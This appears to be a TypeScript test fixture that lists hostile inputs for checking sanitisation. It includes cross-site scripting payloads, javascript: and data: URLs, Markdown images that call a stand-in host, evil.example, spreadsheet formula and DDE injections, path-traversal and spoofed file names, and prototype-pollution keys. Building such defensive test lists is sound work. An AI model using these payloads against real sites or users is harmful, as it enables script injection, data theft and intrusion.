/** What a script of an attacker does when it is run; and where it asks for something when it is loaded. */
const RUN = 'window.hacked=(window.hacked||0)+1';
const ASK = 'https://evil.example/collect?said=segredo';

/** Texts as markup: elements that run scripts or load something as soon as they are in a page. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src="${ASK}"></script>`,
  `"><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${ASK}">`,
  `<img srcset="${ASK} 1x">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="${ASK}#x"></use></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${ASK}"></iframe>`,
  `<object data="${ASK}"></object>`,
  `<embed src="${ASK}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<video poster="${ASK}"></video>`,
  `<audio src="${ASK}" onerror="${RUN}"></audio>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="${ASK}">`,
  `<meta http-equiv="refresh" content="0;url=${ASK}">`,
  `<style>@import url("${ASK}");</style>`,
  `<div style="background:url(${ASK})">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x onclick="${RUN}" tabindex=1 autofocus onfocus="${RUN}">x</x>`,
  `<img src=x:alert(alt) onerror=eval(alt) alt="${RUN}">`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `'-${RUN}-'`,
  `";${RUN}//`,
  `javascript:${RUN}`,
];

/** Addresses that are no place to go to. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript&colon;${RUN}`,
  ` javascript:${RUN}`,
  `\tjavascript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=',
  `vbscript:${RUN}`,
  'file:///etc/passwd',
  'blob:https://evil.example/x',
  '//evil.example/x',
  '/api/auth/logout',
  '#x',
  'https://evil.example" onmouseover="window.hacked=1',
  `https://evil.example'onclick='${RUN}`,
  'about:blank',
];

/** Markdown that would load something. */
const PICTURES = [
  `![x](${ASK})`,
  `![](${ASK})`,
  `[![x](${ASK})](${ASK})`,
  `![x][1]\n\n[1]: ${ASK}`,
  `![x](${ASK} "onerror=${RUN}")`,
  `!["onerror="${RUN}](${ASK})`,
  `| ![x](${ASK}) | b |\n|---|---|\n| ![x](${ASK}) | d |`,
  `- ![x](${ASK})\n> ![x](${ASK})`,
];

/** Cells that a spreadsheet takes for formulas. */
const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("${ASK}&"&A1,"clique")`,
  `=IMPORTXML("${ASK}","//a")`,
  `=WEBSERVICE("${ASK}")`,
  `=IMAGE("${ASK}")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=WEBSERVICE("${ASK}&tab")`,
  `\r=WEBSERVICE("${ASK}&return")`,
  `;=WEBSERVICE("${ASK}&semicolon")`,
  `"=WEBSERVICE(""${ASK}&quoted"")"`,
];

/** Names of files. */
const FILE_NAMES = [
  `"><img src=x onerror="${RUN}">.pdf`,
  `<svg onload=${RUN}>.csv`,
  `';${RUN};'.docx`,
  '../../../../etc/passwd.txt',
  '..\\..\\windows\\win.ini.txt',
  'fatura\u202Efdp.exe.txt',
  'a\u2028b\u2029c.txt',
  '\u200B\u2066oculto\u2069.pdf',
  'nome; filename="outro.html".pdf',
  `${'x'.repeat(120)}<script>${RUN}</script>.pdf`,
];

/** Names that mean something to JavaScript, to templates or to a terminal. */
const NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"hacked":1}}',
  `{{=<% %>=}}<%${RUN}%>`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `\u001b]0;${RUN}\u0007`,
  `\u001b[31m${RUN}\u001b[0m`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
];

/** Markdown around markup, and addresses where Markdown has places for them. */
const MARKDOWN = [
  `[x]: javascript:${RUN}\n\n[x]`,
  `[x][y]\n\n[y]: javascript:${RUN}`,
  `[x](<javascript:${RUN}>)`,
  `[x]( javascript:${RUN} "título")`,
  `[x](java&#x73;cript:${RUN})`,
  `[x](javascript&#58;${RUN})`,
  `[x](java\nscript:${RUN})`,
  `[x](https://a.example/\\"onmouseover=${RUN})`,
  `[<img src=x onerror=${RUN}>](https://a.example/)`,
  `[x](https://a.example/ "<img src=x onerror=${RUN}>")`,
  `https://a.example/"onmouseover="${RUN}`,
  `https://a.example/<script>${RUN}</script>`,
  `mailto:a@b.example?body=<script>${RUN}</script>`,
  `# <img src=x onerror=${RUN}>`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `- [x] <svg onload=${RUN}>`,
  `1. <iframe src="javascript:${RUN}"></iframe>`,
  `> <object data="${ASK}"></object>`,
  `| <img src="${ASK}"> | b |\n|---|---|\n| <svg onload=${RUN}> | d |`,
  `~~<img src=x onerror=${RUN}>~~`,
  `_<script>${RUN}</script>_`,
  `\`<script>${RUN}</script>`,
  `\`\`\`"onmouseover="${RUN}\ncode\n\`\`\``,
  `\`\`\`<script>${RUN}</script>`,
  `$$<img src=x onerror=${RUN}>$$`,
  `\\[<img src="${ASK}">\\]`,
  `[^1]\n\n[^1]: <img src="${ASK}">`,
  `<https://a.example/><img src=x onerror=${RUN}>`,
  `***<script>${RUN}</script>***`,
  `\\<script\\>${RUN}\\</script\\>`,
];

/**
 * Texts that do harm where a page takes them for more than text: each sets `window.hacked` when it is run, or asks
 * evil.example for something when it is loaded.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...ADDRESSES.flatMap((address) => [
    `[clique aqui](${address})`,
    `<${address}>`,
    `[![x](${address})](${address})`,
  ]),
  ...PICTURES,
  ...MARKUP.slice(0, 12).map((text) => `\`\`\`html\n${text}\n\`\`\``),
  ...MARKUP.slice(0, 12).map((text) => `**${text}** | \`${text}\``),
  ...FORMULAS,
  ...FILE_NAMES,
  ...NAMES,
  ...MARKDOWN,
];
